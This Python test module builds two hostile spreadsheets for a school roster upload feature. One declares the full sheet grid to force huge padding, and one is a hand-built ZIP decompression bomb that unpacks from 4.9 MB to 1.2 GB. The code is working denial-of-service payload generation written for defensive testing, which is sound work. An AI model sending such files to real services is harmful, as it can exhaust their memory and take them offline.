"""Two hostile spreadsheets as an attacker makes them, for tests and benchmarks/file_bombs.py.

- `dimension_bomb`: a 5 KB .xlsx whose sheet declares `A1:XFD1048576`; a read-only openpyxl
  sheet pads every row to the declared size (17 billion cells).
- `xml_bomb`: a 4.9 MB .xlsx (under the 5 MB upload cap) whose sheet is 1.2 GB of XML: the
  roster header, then the same block of pupil rows again and again, compressed block by block.
"""

from __future__ import annotations

import io
import random
import struct
import zipfile
import zlib
from pathlib import Path

from openpyxl import Workbook

SHEET = "xl/worksheets/sheet1.xml"
HEADER = ("STT", "Mã học sinh", "Họ và tên", "Ngày sinh", "Giới tính", "Lớp", "SĐT cha")


def _workbook(rows: list[tuple[object, ...]], last_row: str | None = None) -> dict[str, bytes]:
    """The members of a small, valid workbook holding these rows (and a text in the last row)."""
    workbook = Workbook()
    sheet = workbook.active
    assert sheet is not None
    for row in rows:
        sheet.append(list(row))
    if last_row is not None:
        sheet.cell(1_048_576, 1, last_row)
    buffer = io.BytesIO()
    workbook.save(buffer)
    with zipfile.ZipFile(buffer) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def dimension_bomb(path: Path) -> Path:
    """Write the 5 KB workbook that declares the whole grid as used; return its path.

    It holds a roster header, one pupil and a cell in the last row: a reader that trusts the
    declared size gives 1,048,576 rows of 16,384 cells.
    """
    pupil = (1, "7900000001", "Hoàng Anh Đăng", "05/01/2019", "Nam", "1A", "0385908301")
    members = _workbook([HEADER, pupil], last_row="Hết danh sách")
    sheet = members[SHEET].decode()
    start = sheet.index("<dimension ")
    end = sheet.index("/>", start) + 2
    members[SHEET] = (sheet[:start] + '<dimension ref="A1:XFD1048576"/>' + sheet[end:]).encode()
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return path


def _rows_block(rng: random.Random, first: int, count: int) -> bytes:
    """Pupil rows as inline strings, with a little randomness so the block compresses ~235:1."""
    parts = []
    for n in range(first, first + count):
        salt = rng.randrange(100) if n % 48 == 0 else 0
        cells = "".join(
            f'<c t="inlineStr"><is><t>{text}</t></is></c>'
            for text in ("Hoàng Anh Đăng", f"{salt:02d}/01/2019", "Nam", "1A", "0385908301")
        )
        parts.append(f"<row><c><v>1</v></c>{cells}</row>")
    return "".join(parts).encode()


def xml_bomb(path: Path, unpacked: int = 1_200_000_000) -> Path:
    """Write a valid roster workbook whose sheet unpacks to `unpacked` bytes; return its path.

    The sheet is written as raw deflate, one block compressed once and repeated (a full flush
    makes each copy independent), so making it takes a second, not the minutes of compressing
    1.2 GB.
    """
    members = _workbook([HEADER])
    sheet = members.pop(SHEET)
    head, tail = sheet.split(b"</sheetData>")
    start = head.index(b"<dimension ")
    head = head[:start] + head[head.index(b"/>", start) + 2 :]  # no size: every row is read
    block = _rows_block(random.Random(14), 2, 8000)
    copies = max(1, (unpacked - len(head) - len(tail)) // len(block))
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    head_deflated = compressor.compress(head) + compressor.flush(zlib.Z_FULL_FLUSH)
    block_compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    block_deflated = block_compressor.compress(block) + block_compressor.flush(zlib.Z_FULL_FLUSH)
    tail_compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    tail_deflated = tail_compressor.compress(b"</sheetData>" + tail) + tail_compressor.flush()
    crc = zlib.crc32(head)
    for _ in range(copies):
        crc = zlib.crc32(block, crc)
    crc = zlib.crc32(b"</sheetData>" + tail, crc)
    size = len(head) + copies * len(block) + len(b"</sheetData>") + len(tail)
    compressed = len(head_deflated) + copies * len(block_deflated) + len(tail_deflated)
    with path.open("wb") as out:
        entries = []
        for name, data in members.items():
            deflated = zlib.compress(data, 9)[2:-4]  # raw deflate: no zlib header or checksum
            entries.append((name, out.tell(), zlib.crc32(data), len(deflated), len(data)))
            out.write(_local_header(name, zlib.crc32(data), len(deflated), len(data)))
            out.write(deflated)
        entries.append((SHEET, out.tell(), crc, compressed, size))
        out.write(_local_header(SHEET, crc, compressed, size))
        out.write(head_deflated)
        for _ in range(copies):
            out.write(block_deflated)
        out.write(tail_deflated)
        directory = out.tell()
        for name, offset, entry_crc, packed, plain in entries:
            out.write(_central_header(name, offset, entry_crc, packed, plain))
        end = out.tell()
        out.write(
            struct.pack(
                "<IHHHHIIH", 0x06054B50, 0, 0, len(entries), len(entries), end - directory,
                directory, 0,
            )
        )  # fmt: skip
    return path


def _local_header(name: str, crc: int, packed: int, plain: int) -> bytes:
    encoded = name.encode()
    fixed = struct.pack(
        "<IHHHHHIIIHH", 0x04034B50, 20, 0, 8, 0, 0, crc, packed, plain, len(encoded), 0
    )
    return fixed + encoded


def _central_header(name: str, offset: int, crc: int, packed: int, plain: int) -> bytes:
    encoded = name.encode()
    fixed = struct.pack(
        "<IHHHHHHIIIHHHHHII",
        0x02014B50, 20, 20, 0, 8, 0, 0, crc, packed, plain, len(encoded), 0, 0, 0, 0, 0, offset,
    )  # fmt: skip
    return fixed + encoded
